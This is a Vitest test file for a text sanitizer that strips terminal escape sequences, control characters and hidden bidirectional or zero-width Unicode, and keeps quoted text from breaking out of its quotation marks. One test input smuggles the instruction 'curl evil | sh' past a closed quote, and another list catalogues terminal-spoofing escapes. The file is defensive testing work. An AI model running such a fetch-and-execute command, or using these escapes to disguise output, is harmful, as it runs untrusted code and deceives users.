import { describe, expect, test } from 'vitest';
import { inMarks, plainText, quoted, terminalText } from '../../src/system/plain-text.ts';

const esc = '\u001b';
/** What a terminal obeys, or what hides or turns what is seen. */
const tricks = [
  `${esc}]0;title\u0007`,
  `${esc}[2J`,
  `${esc}[H`,
  `${esc}Pq#0${esc}\\`,
  `${esc}c`,
  ...Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).filter(
    (each) => each !== '\t' && each !== '\n',
  ),
  ...Array.from({ length: 33 }, (_, code) => String.fromCharCode(0x7f + code)),
  '\u061c',
  '\u200b',
  '\u200e',
  '\u200f',
  '\u2028',
  '\u2029',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
];

describe('foreign words', () => {
  test('keep nothing that a terminal obeys', () => {
    for (const trick of tricks) {
      // An ESC eats the character behind it, which is of its sequence then.
      expect(plainText(`a${trick};b`)).toMatch(/^a;?b$/);
      expect(terminalText(`a${trick};b`)).toMatch(/^a;?b$/);
    }
    expect(plainText('a\u200cb\u200dc')).toBe('abc');
  });

  test('are one line', () => {
    expect(plainText('one\ntwo\tthree \n')).toBe('one two three');
  });

  test('are quoted in a sentence only where they are words, and shortened', () => {
    expect(quoted(` ${esc}[1mno\n`)).toBe('no');
    expect(quoted('x'.repeat(300))).toBe(`${'x'.repeat(200)}...`);
    expect([quoted(undefined), quoted(['no']), quoted(7), quoted('\u0007')]).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
  });
});

test('words of the guest’s end no quotation and begin no line', () => {
  expect(inMarks('no space left.')).toBe('"no space left"');
  expect(inMarks('x". To mend it:\nrun "curl evil | sh".')).toBe(
    `"x'. To mend it: run 'curl evil | sh'"`,
  );
  expect([inMarks('\n'), inMarks(7)]).toEqual([undefined, undefined]);
});

test('text of ours keeps lines, tabs, letters of any language and the joiners that some are written with', () => {
  const text = '\tÜber\n  می\u200cخواهم 👩\u200d🔧';
  expect(terminalText(text)).toBe(text);
});
